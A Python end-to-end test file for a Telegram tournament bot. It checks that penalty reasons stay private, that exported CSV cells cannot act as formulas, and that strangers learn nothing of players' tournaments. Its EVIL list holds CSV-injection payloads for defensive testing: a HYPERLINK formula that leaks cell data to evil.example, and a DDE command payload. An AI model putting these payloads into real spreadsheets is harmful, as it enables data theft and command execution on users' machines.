"""What must not reach the group or a stranger (issue 20, items 3-7): a penalty's reason in the
group's ``/export``, a formula in the CSV, a player's tournaments through ``/deck @him``, a board
link by number in a private chat, and the invisible characters of a Telegram name."""

from __future__ import annotations

import csv
import io
import sqlite3

import pytest

from tests.e2e.drivers import swiss_club
from tests.e2e.drivers.swiss_club import GROUP, Club
from tests.e2e.drivers.texts import fixed, ru
from tests.e2e.emulator import BotApiEmulator
from tests.e2e.harness import RunningBot

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ann")',
    "+1+1 Bob",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Eve\u202eevil\u200b",
]
REASON = "PRIVATE_REASON_77 personal matter"


def club_id(bot: RunningBot, telegram_id: int) -> int:
    with sqlite3.connect(bot.db_path) as conn:
        (found,) = conn.execute(
            "SELECT id FROM players WHERE telegram_id = ?", (telegram_id,)
        ).fetchone()
    return int(found)


async def exported(emu: BotApiEmulator, club: Club, chat: int) -> list[list[str]]:
    """``/export`` asked by the organiser in ``chat``: the file's rows."""
    mark = emu.mark()
    await club.org.send(chat, "/export")
    sent = await emu.wait_bot_message(chat, predicate=lambda m: m.document is not None, since=mark)
    assert sent.document is not None
    text = sent.document.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


async def test_the_groups_export_keeps_reasons_out_and_no_cell_is_a_formula(
    emu: BotApiEmulator, bot: RunningBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(swiss_club, "NAMES", EVIL)
    club = Club(emu, players=4)
    await club.register_all(await club.create(rounds="3", top="Без ТОПа"))
    await club.org.send(GROUP, "/begin")
    board = await emu.wait_for(lambda: club.board("Тур 1 из 3"))
    # Telegram's name with an override and a zero-width space: shown without them.
    assert "Eveevil" in board.plain and "\u202e" not in board.plain and "\u200b" not in board.plain
    first = club_id(bot, club.users[EVIL[0]].id)
    await club.org.send(GROUP, f"/penalty {first} warning {REASON}")
    await emu.wait_bot_message(
        GROUP, contains=ru("penalties.recorded_private").split(".")[0]
    )  # the details: privately

    in_group = await exported(emu, club, GROUP)
    assert not any(REASON in cell for row in in_group for cell in row)
    header = next(row for row in in_group if row and row[0] == "penalty")
    assert header == ["penalty", "club_id", "name", "round", "table"]
    names = {row[2] for row in in_group if len(row) > 2 and row[1].isdigit()}
    assert {"'" + name for name in EVIL[:3]} <= names  # read as text by a spreadsheet
    assert not any(cell.startswith(("=", "+", "@")) for row in in_group for cell in row)
    assert "Eveevil" in names

    await club.org.start()  # the judge's own copy, privately: the reasons are in it
    private = await exported(emu, club, club.org.id)
    penalty = next(row for row in private if row and row[0] == "warning")
    assert penalty[-1] == REASON


async def test_a_stranger_learns_nothing_of_a_players_tournaments_or_boards(
    emu: BotApiEmulator, web_bot: RunningBot
) -> None:
    club = Club(emu, players=4)
    await club.register_all(await club.create(rounds="3", top="Без ТОПа"))
    await club.register_all(await club.create(rounds="3", top="Без ТОПа"))  # Ann plays in two
    stranger = emu.add_user(666, "Mallory", username="mallory")
    await stranger.start()
    await stranger.wait_message()
    ann = club.users["Ann"]
    await stranger.send(stranger.id, f"/deck @{ann.username}")
    answer = await stranger.wait_message(contains=ru("decks.not_yours"))
    assert "Кубок" not in answer.plain  # not even which tournaments she plays in
    assert not [m for m in emu.bot_messages(stranger.id) if fixed("decks.which") in m.plain]
    await stranger.send(stranger.id, "/board 1")
    refused = await stranger.wait_message(contains=ru("web.no_tournament"))
    assert "/t/" not in refused.plain
    # A player of the tournament, and a member of its group, get the link privately.
    await ann.send(ann.id, "/board 1")
    link = await ann.wait_message(contains="/t/")
    assert "Кубок" in link.plain


async def test_an_organiser_renews_a_link_and_the_old_one_opens_nothing(
    emu: BotApiEmulator, web_bot: RunningBot
) -> None:
    club = Club(emu, players=4)
    await club.register_all(await club.create(rounds="3", top="Без ТОПа"))
    await club.org.send(GROUP, "/board")
    old = (await emu.wait_bot_message(GROUP, contains="/t/")).plain.split("/t/", 1)[1].split()[0]
    ann = club.users["Ann"]
    await ann.send(GROUP, "/board new")  # a player: refused, the link stands
    await emu.wait_bot_message(GROUP, contains=fixed("common.organisers_only"))
    assert web_bot.app is not None
    links = web_bot.app.infra.links
    assert links.tournament_of(old) == 1
    mark = emu.mark()
    await club.org.send(GROUP, "/board new")
    answer = await emu.wait_bot_message(GROUP, contains="/t/", since=mark)
    new = answer.plain.split("/t/", 1)[1].split()[0]
    assert new != old and links.tournament_of(new) == 1 and links.tournament_of(old) is None
